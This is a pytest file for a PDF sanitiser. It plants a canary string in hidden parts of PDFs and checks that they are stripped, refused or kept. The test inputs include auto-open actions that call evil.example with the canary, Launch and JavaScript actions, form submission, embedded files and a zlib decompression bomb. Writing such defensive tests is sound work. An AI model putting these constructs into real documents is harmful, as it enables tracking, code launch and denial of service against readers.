"""What PDFs have in them that nobody means to publish: taken out, or refused; and what stays."""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable
from typing import Any

import pypdf
import pytest
from PIL import Image
from pypdf.generic import DictionaryObject, EncodedStreamObject, NameObject

from hub.documents.attachments import pdf_drawings, pdf_streams, pdf_texts
from tests.helpers.attached import pdf, photo
from tests.helpers.planted import (
    CANARY,
    PATHS,
    WORDS,
    action,
    cleaned,
    linked,
    names,
    objects,
    only_that_is_taken_out,
    paper,
    refused,
    stream,
    tells,
)


def jpeg2000() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "JPEG2000", comment=CANARY.encode())
    box = b"uuid" + bytes(16) + CANARY.encode()
    return out.getvalue() + (len(box) + 4).to_bytes(4, "big") + box


def inline() -> dict[str, Any]:
    data = b"BI /W 40 /H 20 /F /DCT ID " + photo(CANARY, form="JPEG") + b" EI"
    return {"/Contents": stream(data)}


def bomb() -> bytes:
    """A page of which each drawing is within a limit, and all together are not."""
    writer = pypdf.PdfWriter(io.BytesIO(pdf(WORDS)))
    size = 70_000_000
    packed = zlib.compress(bytes(size), 9)
    for number in range(pdf_streams.MAX_UNPACKED // size + 1):
        made = EncodedStreamObject()
        made._data = packed
        made.update(names({"/Filter": "/FlateDecode", "/Subtype": "/Image"}))
        drawn = writer.pages[0]["/Resources"]["/XObject"]
        drawn[NameObject(f"/X{number}")] = writer._add_object(made)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def marked(writer: pypdf.PdfWriter, page: Any) -> None:
    said = {"/Type": "/StructElem", "/S": "/P", "/ActualText": CANARY, "/Pg": page}
    tag = writer._add_object(names(said))
    within = names({"/Type": "/StructElem", "/S": "/Span", "/Alt": CANARY, "/P": tag})
    tag.get_object()[NameObject("/K")] = writer._add_object(within)
    writer.root_object["/StructTreeRoot"][NameObject("/K")] = tag


def filled_in(writer: pypdf.PdfWriter, page: Any) -> None:
    made = writer._add_object(names({
        "/Type": "/Annot", "/Rect": [0, 0, 9, 9], "/Subtype": "/Widget", "/FT": "/Tx", "/F": 4,
        "/V": CANARY, "/T": "a", "/P": page}))  # fmt: skip
    page.get_object()[NameObject("/Annots")] = names({"/A": [made]})["/A"]
    writer.root_object[NameObject("/AcroForm")] = names({"/Fields": [made]})


LEADS: dict[str, Callable[[pypdf.PdfWriter, Any], Any]] = {
    "a bookmark leads there": lambda writer, _page: writer.add_outline_item(
        title="Two", page_number=1
    ),
    "a name leads there": lambda writer, _page: writer.add_named_destination("b", page_number=1),
    "tags say what was on it": marked,
    "a field on it was filled in": filled_in,
}


def without_a_page(leads: Callable[[pypdf.PdfWriter, Any], Any]) -> bytes:
    """A PDF of which a page was taken out, as programs do: out of the row, and not of the file."""
    writer = pypdf.PdfWriter(io.BytesIO(pdf(WORDS)))
    page = writer.add_blank_page(300, 300)
    page[NameObject("/Contents")] = writer._add_object(stream(f"({CANARY}) Tj".encode()))
    leads(writer, page.indirect_reference)
    row = writer.root_object["/Pages"]
    row["/Kids"].pop()
    row[NameObject("/Count")] = names({"/N": 1})["/N"]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def not_shown() -> bytes:
    writer = pypdf.PdfWriter(io.BytesIO(pdf(WORDS)))
    pictures = writer.pages[0]["/Resources"]["/XObject"]
    made = stream(CANARY.encode(), Type="/XObject", Subtype="/Form")
    pictures[NameObject("/Other")] = writer._add_object(made)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def drawn_with(said: str) -> bytes:
    """A page with a part that is drawn so."""
    part = stream(said.encode(), Type="/XObject", Subtype="/Form")
    return paper(page={"/Contents": stream(b"/I1 Do"), "/Resources": {"/XObject": {"/I1": part}}})


def within_a_box(said: str) -> Any:
    made = stream(said.encode(), PatternType="1")
    made[NameObject("/BBox")] = names({"/B": [0, 0, 9, 9]})["/B"]
    return made


def pieces(**named: Any) -> bytes:
    """A page with properties of pieces of it, of which it uses those of the name `M0`."""
    used = {"/XObject": {"/I1": stream(b"")}}
    listed = {"/Properties": {f"/{name}": said for name, said in named.items()}}
    page = {"/Contents": stream(b"/P /M0 BDC EMC"), "/Resources": {**used, **listed}}
    return paper(page=page)


DRAWN = {
    "a remark": f"q % {CANARY}\n0 0 9 9 re f Q",
    "a remark behind words": f"BT (50% \\( (a) ) Tj %{CANARY}\rET",
    "a remark behind a picture": f"BI /W 1 /H 1 /BPC 8 /CS /G ID % EI\nQ q % {CANARY}\n",
    "a property": f"/P <</MCID 0 /Note ({CANARY})>> BDC EMC",
    "a property in a list": f"/P <</A [/B <41> ({CANARY})]/Alt (x)>> DP",
    "a property within another": f"/P <</A <</B (a) /C ({CANARY})>>/MCID 1>>BDC EMC",
}
"""Words that draw nothing."""
STAY: dict[str, bytes] = {
    "words": b"BT (50% a) Tj (\\)% b) Tj <41> Tj ET",
    "what screen readers say": b"/Span <</ActualText (50%) /Lang (cy) /E <41>>> BDC (x) Tj EMC",
    "a picture that looks like a remark": b"q BI /W 9 /H 1 /BPC 8 /CS /G ID %( EI \xff\0 EI\nQ",
    "what never ends": b"BT (50% a Tj ET",
}


@pytest.mark.parametrize("what", STAY)
def test_what_draws_a_page_stays(what: str) -> None:
    made = pypdf.PdfReader(
        io.BytesIO(cleaned("a.pdf", paper(page={"/Contents": stream(STAY[what])})))
    )
    assert made.pages[0]["/Contents"].get_data() == STAY[what]


def test_no_words_are_left_in_properties_as_numbers() -> None:
    said = b"/P <</A [/B <41 42>]/Alt <41>>> DP"
    assert pdf_drawings.bare(said) == b"/P <</A [/B ()]/Alt <41>>> DP"


def test_properties_that_screen_readers_read_stay() -> None:
    assert tells(cleaned("a.pdf", pieces(M0={"/ActualText": CANARY})))


HIDDEN_NOTE = {"/Type": "/Annot", "/Rect": [0, 0, 9, 9], "/Contents": CANARY}
PDF: dict[str, Callable[[], bytes]] = {
    **{f"link to {how}": linked(action("URI", URI=to)) for how, to in PATHS.items()
       if how not in {"as entities", "beside"}},
    "file": linked(action("GoToR", F=f"{CANARY}.pdf", D=CANARY)),
    "file by its parts": linked(
        action("GoToR", F={"/Type": "/Filespec", "/UF": CANARY, "/F": CANARY})),
    "program": linked(action("Launch", F=CANARY)),
    "file within": linked(action("GoToE", F=CANARY, T={"/N": CANARY})),
    "then a program": linked(action("GoTo", D=[0], Next=action("Launch", F=CANARY))),
    "phones home": lambda: paper({"/OpenAction": action("URI", URI=f"https://evil.example/{CANARY}")}),
    "phones home after turning the page": lambda: paper({"/OpenAction": action(
        "GoTo", D=[0], Next=[action("URI", URI=f"https://evil.example/{CANARY}")])}),
    "link of the outline": lambda: paper(
        {"/Outlines": {"/First": {"/Title": "x", "/A": action("GoToR", F=CANARY)}}}),
    "description of a file": lambda: paper(
        {"/X": {"/Type": "/Filespec", "/F": CANARY, "/UF": CANARY, "/Desc": CANARY}}),
    "page phones home": lambda: paper(page={"/AA": {"/O": action("URI", URI=f"https://e/{CANARY}")}}),
    "beginning of addresses": lambda: paper({"/URI": {"/Base": f"https://e/{CANARY}"}}),
    "small picture": lambda: paper(page={"/Thumb": stream(CANARY.encode(), Type="/XObject")}),
    "hidden remark": lambda: paper(notes=[{**HIDDEN_NOTE, "/Subtype": "/Text", "/F": 2}]),
    "remark on no screen": lambda: paper(
        notes=[{**HIDDEN_NOTE, "/Subtype": "/FreeText", "/F": 32}]),
    "hidden field": lambda: paper(notes=[{
        "/Type": "/Annot", "/Rect": [0, 0, 9, 9], "/Subtype": "/Widget", "/FT": "/Tx", "/F": 2,
        "/V": CANARY, "/T": "a"}]),
    "TeX's path": lambda: paper(page={"/PTEX.FileName": CANARY}),
    "path of a picture": lambda: paper(page={"/Alt": rf"C:\Users\{CANARY}"}),
    "layer's author": lambda: paper(
        {"/OCProperties": {"/OCGs": [{"/Usage": {"/CreatorInfo": {"/Creator": CANARY}}}]}}),
    "photograph": lambda: paper(picture=(photo(CANARY), "/DCTDecode")),
    "packed photograph": lambda: paper(
        picture=(zlib.compress(photo(CANARY)), ["/FlateDecode", "/DCTDecode"])),
    "photograph in letters": lambda: paper(
        picture=(photo(CANARY).hex().encode() + b">", ["/ASCIIHexDecode", "/DCTDecode"])),
    "twice packed": lambda: paper(
        picture=(zlib.compress(zlib.compress(photo(CANARY))),
                 ["/FlateDecode", "/FlateDecode", "/DCTDecode"])),
    "damaged photograph": lambda: paper(picture=(photo(CANARY)[:-300], "/DCTDecode")),
    "JPEG 2000": lambda: paper(picture=(jpeg2000(), "/JPXDecode")),
    "packed JPEG 2000": lambda: paper(
        picture=(zlib.compress(jpeg2000()), ["/FlateDecode", "/JPXDecode"])),
    "in the page's own drawing": lambda: paper(page=inline()),
    "key of a program's own": lambda: paper(
        {"/MyKey": CANARY}, {"/MyKey": stream(CANARY.encode())}),
    "Preview's own": lambda: paper(notes=[{
        "/Type": "/Annot", "/Subtype": "/Link", "/Rect": [0, 0, 9, 9],
        "/AAPL:AKExtras": {"/AAPL:AKAnnotationObject": CANARY}}]),
    "page for later": lambda: paper({"/Names": {"/Templates": {"/Names": [
        "a", {"/Type": "/Template", "/Contents": stream(CANARY.encode())}]}}}),
    "picture that no page shows": not_shown,
    "annotation without a place": lambda: paper(notes=[{
        "/Type": "/Annot", "/Subtype": "/FreeText", "/Contents": CANARY}]),
    "annotation without a place and a type": lambda: paper(notes=[{
        "/Subtype": "/Link", "/Contents": CANARY}]),
    "field without a place": lambda: paper(notes=[{
        "/Type": "/Annot", "/Subtype": "/Widget", "/FT": "/Tx", "/F": 4, "/V": CANARY, "/T": "a"}]),
    **{f"in a drawing, {how}": (lambda said=said: paper(page={"/Contents": stream(said.encode())}))
       for how, said in DRAWN.items()},
    "remark in a part of a page": lambda: drawn_with(f"% {CANARY}\n0 0 9 9 re f"),
    "remark in a pattern": lambda: paper(page={"/Contents": stream(b"/I1 Do"), "/Resources": {
        "/XObject": {"/I1": stream(b"")}, "/Pattern": {"/P1": within_a_box(f"% {CANARY}")}}}),
    "remark in a sign of a font": lambda: paper(page={"/X": 1, "/Resources": {
        "/XObject": {"/I1": stream(b"")}, "/Font": {"/F1": {
            "/Type": "/Font", "/Subtype": "/Type3",
            "/CharProcs": {"/a": stream(f"0 0 d0 % {CANARY}".encode())}}}}}),
    "properties of a tag": lambda: paper({"/X": 1, "/StructTreeRoot": {
        "/Type": "/StructTreeRoot", "/K": {"/Type": "/StructElem", "/S": "/P", "/A": {
            "/O": "/UserProperties", "/P": [{"/N": CANARY, "/V": CANARY, "/F": CANARY}]}}}}),
    "properties of a piece": lambda: pieces(
        M0={"/MCID": 0, "/Note": CANARY, "/More": {"/A": CANARY}}),
    "properties of which no page speaks": lambda: pieces(M1={"/ActualText": CANARY}),
    **{f"page taken out, and {how}": (lambda leads=leads: without_a_page(leads))
       for how, leads in LEADS.items()},
}  # fmt: skip
PDF_REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "script": (linked(action("JavaScript", JS="app.alert(1)")), "small program"),
    "script of a field": (
        lambda: paper(page={"/AA": {"/O": action("JavaScript", JS="x")}}), "small program"),
    "sends": (linked(action("SubmitForm", F="https://e")), "small program"),
    "fetches": (linked(action("ImportData", F="x")), "small program"),
    "file": (lambda: paper(
        {"/Names": {"/EmbeddedFiles": {"/Names": ["a", {"/EF": {"/F": stream(b"x")}}]}}}),
        "other files"),
    "bomb": (bomb, "far larger"),
}  # fmt: skip


TAKEN_OUT = {what: ("a.pdf", make) for what, make in PDF.items()}
REFUSED = {what: ("a.pdf", make, said) for what, (make, said) in PDF_REFUSED.items()}


@pytest.mark.parametrize("what", TAKEN_OUT)
def test_what_nobody_means_to_publish_is_taken_out(what: str) -> None:
    name, make = TAKEN_OUT[what]
    only_that_is_taken_out(name, make(), pdf_texts)


@pytest.mark.parametrize("what", REFUSED)
def test_what_cannot_be_taken_out_is_refused(what: str) -> None:
    name, make, said = REFUSED[what]
    assert said in refused(name, make())


FINE: dict[str, Callable[[], bytes]] = {
    "zoom at the beginning": lambda: paper({"/OpenAction": action("GoTo", D=[0, "/XYZ", 0, 0, 1])}),
    "place at the beginning": lambda: paper({"/OpenAction": [0, "/Fit"]}),
    "link to the web": linked(action("URI", URI="https://school.example/a?b=%20c")),
    "link as people write it": linked(action("URI", URI="www.school.example")),
    "link to a post box": linked(action("URI", URI="mailto:office@school.example")),
    "next page": linked(action("Named", N="/NextPage")),
    "a form": lambda: paper({"/AcroForm": {"/Fields": []}}, notes=[{
        "/Type": "/Annot", "/Rect": [0, 0, 9, 9], "/Subtype": "/Widget", "/FT": "/Tx", "/T": "a",
        "/V": "Name", "/F": 4}]),
}  # fmt: skip


@pytest.mark.parametrize("what", FINE)
def test_what_programs_write_into_pdfs_stays(what: str) -> None:
    given = FINE[what]()
    keys = {"/OpenAction", "/A", "/V"}
    before, after = (
        sorted(
            re.sub(
                r"IndirectObject\([^)]*\)", "", str({key: made[key] for key in keys & made.keys()})
            )
            for made in objects(content)
            if isinstance(made, DictionaryObject) and keys & made.keys()
        )
        for content in (given, cleaned("a.pdf", given))
    )
    assert before == after
